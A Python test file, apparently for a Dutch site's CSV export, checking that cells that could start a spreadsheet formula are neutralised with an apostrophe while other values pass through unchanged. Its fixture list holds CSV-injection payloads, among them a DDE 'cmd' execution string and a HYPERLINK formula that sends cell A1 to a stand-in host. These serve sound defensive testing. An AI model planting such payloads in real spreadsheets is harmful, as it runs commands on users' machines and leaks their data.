"""Tables as CSV: exact for programs; for spreadsheets no cell is a formula, and nothing else changes."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from generator.pages.data.tables import LONGEST, csv_rows, spreadsheet_rows

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://x.example/?"&A1;"Bekijk")',
    "+31 70 123",
    "-2+3+cmd|' /C calc'!A0",
    "- een streepje, zoals in een lijst",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u200e-1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def read(text, delimiter=";"):
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))


@pytest.mark.parametrize("cell", FORMULAS, ids=ascii)
def test_what_may_begin_a_formula_gets_an_apostrophe_and_loses_nothing(cell):
    assert read(spreadsheet_rows([("a", cell, "b")])) == [["a", "'" + cell.replace("\x00", ""), "b"]]


@pytest.mark.parametrize(
    "cell", ["", "Ja.", "5 - 3 = 2", "€ 5,-; meer niet", 'Hij zei: "nee"', "een\n- twee", "'s-Gravenhage", "2024-03-05"]
)
def test_everything_else_is_left_as_it_is(cell):
    assert read(spreadsheet_rows([("a", cell, "b")])) == [["a", cell, "b"]]


@given(
    st.lists(st.lists(st.text(st.sampled_from("=+-@\t\r\n ;,\"'a1\u200b\u00a0＝"), max_size=8), min_size=1, max_size=4))
)
@example([['"', ";=1", '";=1', "\r\n=1"]])
def test_no_cell_is_run_and_every_row_and_cell_is_there(rows):
    cells = read(spreadsheet_rows(rows))
    assert [len(row) for row in cells] == [len(row) for row in rows]
    for shown, exact in zip(cells, rows, strict=True):
        for one, other in zip(shown, exact, strict=True):
            assert one.removeprefix("'") == other.removeprefix("'")
            assert not one.startswith(("\t", "\r", "\n"))
            assert not one.lstrip(" \t\r\n\u00a0\u200b").startswith(SIGNS)


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=4)))
def test_the_table_for_programs_gives_every_value_back_exactly(rows):
    assert read(csv_rows(rows), ",") == rows


def test_a_value_longer_than_a_cell_of_excel_is_cut_with_a_sign_of_it():
    whole, long = "a" * LONGEST, "=" + "a" * LONGEST
    ((kept, cut),) = read(spreadsheet_rows([(whole, long)]))
    assert kept == whole
    assert (len(cut), cut[:3], cut[-2:]) == (LONGEST, "'=a", "a…")
